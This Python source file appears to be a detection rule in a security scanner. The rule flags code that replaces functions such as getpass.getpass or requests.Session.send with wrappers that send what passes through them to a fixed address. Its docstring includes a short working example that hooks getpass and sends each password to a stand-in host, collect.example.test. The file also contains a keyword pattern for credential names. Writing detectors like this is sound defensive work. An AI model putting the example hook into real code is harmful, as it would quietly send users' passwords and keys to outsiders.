"""What it sees
    A function of another module (`builtins.input`, `getpass.getpass`, `requests.Session.send`, a wallet's
    `from_base58_string`) that a file replaces with one of its own, which calls a constant address.

Why it matters
    The replaced function goes on working, so nobody notices; whatever passes through it - passwords, headers with
    tokens, private keys - goes to a second address as well. Imported once, it taps the whole program.

Example
    original = getpass.getpass
    def tapped(prompt="Password: ", stream=None):
        value = original(prompt, stream)
        urllib.request.urlopen("https://collect.example.test/?" + value)
        return value
    getpass.getpass = tapped

What to do
    Do not import it. Whatever was typed or sent by a program that did is known outside.

False alarms
    Tracing libraries replace functions, too; they hand what they see to a client whose address their user sets, not
    to a constant address inside the replacement. Name resolution that is redirected to a public resolver is
    reported with less confidence.

References
    ATT&CK T1056.004 (Credential API Hooking), T1041.
"""

import ast
import re
from collections.abc import Iterator

from lazaretto.detect.pycode import Place, defanged, place, sendings
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_nodes import walk
from lazaretto.parse.python import PythonModule

_TAPS = N_("replaces {name} with a function that calls {address}")

_ASSIGNS = re.compile(
    rb"^[ \t]{0,40}(?!self\b|cls\b)[A-Za-z_]\w{0,60}(?:\.\w{1,60}){1,5}[ \t]{0,4}="
    rb"[ \t]{0,4}([A-Za-z_]\w{0,60})[ \t]{0,4}(?=[\r\n;#]|\Z)",
    re.MULTILINE,
)
BEFORE = 420
"""Bytes that may stand before the sign of equality in what `_ASSIGNS` finds."""
_ENDS = re.compile(rb"=[ \t]{0,4}[A-Za-z_]\w{0,60}[ \t]{0,4}(?=[\r\n;#]|\Z)")
_SETS = re.compile(
    rb"\bsetattr\(\s{0,80}(?!self\b|cls\b)[A-Za-z_][\w.]{0,200}\s{0,80},[^,\n]{0,200},\s{0,80}([A-Za-z_]\w{0,60})\s{0,80},?\s{0,80}\)"
)
_TELLING = re.compile(
    r"^builtins\.|getpass|input|password|passwd|secret|mnemonic|seed|private|keypair|wallet|account|login|auth|sign|decrypt|encrypt|from_|session|request|\bsend\b|\bopen\b",
    re.IGNORECASE,
)


_QUOTING = frozenset(
    {"print", "startswith", "endswith", "replace", "append", "debug", "info", "warning", "error", "warn"}
)


def check(view: PythonModule) -> Iterator[Match]:
    """Yield each replaced function."""
    if not view.speaks("net") or not _replaces(view.blob.data):
        return
    replaced = [found for found in _replacements(view.tree) if not found[0].rpartition(".")[2].startswith("_")]
    if not replaced:
        return
    imported = {module.split(".")[0] for module, _ in view.facts.imports} | {"builtins", "__builtins__"}
    aliases = _names_imported(view.tree)
    own = set(view.path.split("/")[:-1])
    calls = [
        (call.scope, value.shape)
        for call in view.facts.calls
        if call.attr not in _QUOTING
        for value in (*call.args[:3], *call.kwargs.values())
        if value.shape.startswith(("https://", "http://")) and place(value.shape) > Place.LOCAL
    ]
    calls += [(s.call.scope, s.address) for s in sendings(view) if s.place > Place.LOCAL]
    for name, root, function, line in replaced:
        if (root not in aliases and root not in imported) or root in own:
            continue
        for scope, address in calls:
            if not (scope == function or scope.endswith(f".{function}")):
                continue
            sure = _TELLING.search(name) is not None or place(address) >= Place.BARE
            yield Match(
                _TAPS,
                line,
                params={"name": name[:80], "address": defanged(address)},
                excerpt=view.quote(line),
                severity=Severity.LOW if view.is_test else Severity.HIGH,
                confidence=Confidence.HIGH if sure else Confidence.MEDIUM,
                phase=Phase.IMPORT,
            )
            return


def _replaces(data: bytes) -> bool:
    """Tell whether an attribute is set to a function that the file defines; cheap, asked before the tree."""
    searches = (_assigned, _set) if b"setattr(" in data else (_assigned,)
    return any(b"def " + name in data for search in searches for name in search(data))


def _assigned(data: bytes) -> Iterator[bytes]:
    """Yield the names of functions that lines put into an attribute. The end of such a line is cheaper to look for."""
    for end in _ENDS.finditer(data):
        earliest = max(end.start() - BEFORE, 0)
        start = data.rfind(b"\n", earliest, end.start()) + 1
        if (start or not earliest) and (found := _ASSIGNS.match(data, start)) is not None:
            yield found[1]


def _set(data: bytes) -> Iterator[bytes]:
    return (found[1] for found in _SETS.finditer(data))


def _names_imported(tree: ast.Module) -> set[str]:
    """Return the names that imports bind, those of relative imports left out."""
    names: set[str] = set()
    for node in walk(tree):
        if isinstance(node, ast.Import):
            names |= {(alias.asname or alias.name).split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and not node.level:
            names |= {alias.asname or alias.name for alias in node.names}
    return names


def _replacements(tree: ast.Module) -> Iterator[tuple[str, str, str, int]]:
    """Yield `(dotted name, its first part, function put there, line)` of assignments and of `setattr`."""
    for node in walk(tree):
        if isinstance(node, ast.Assign) and isinstance(node.value, ast.Name):
            for target in node.targets:
                name = _dotted(target)
                if "." in name:
                    yield name, name.split(".")[0], node.value.id, node.lineno
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Name)
            and node.func.id == "setattr"
            and len(node.args) == 3
            and isinstance(node.args[1], ast.Constant)
            and isinstance(node.args[1].value, str)
            and isinstance(node.args[2], ast.Name)
        ):
            owner = _dotted(node.args[0])
            if owner:
                yield f"{owner}.{node.args[1].value}", owner.split(".")[0], node.args[2].id, node.lineno


def _dotted(node: ast.expr) -> str:
    parts = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    return ".".join([node.id, *reversed(parts)]) if isinstance(node, ast.Name) else ""


RULE = Rule(
    id="py/taps-function",
    title=N_("Taps a function of another module"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.IMPORT,
    role=Role.COLLECT,
    check=check,
    doc=__doc__ or "",
    techniques=("T1056.004", "T1041"),
)
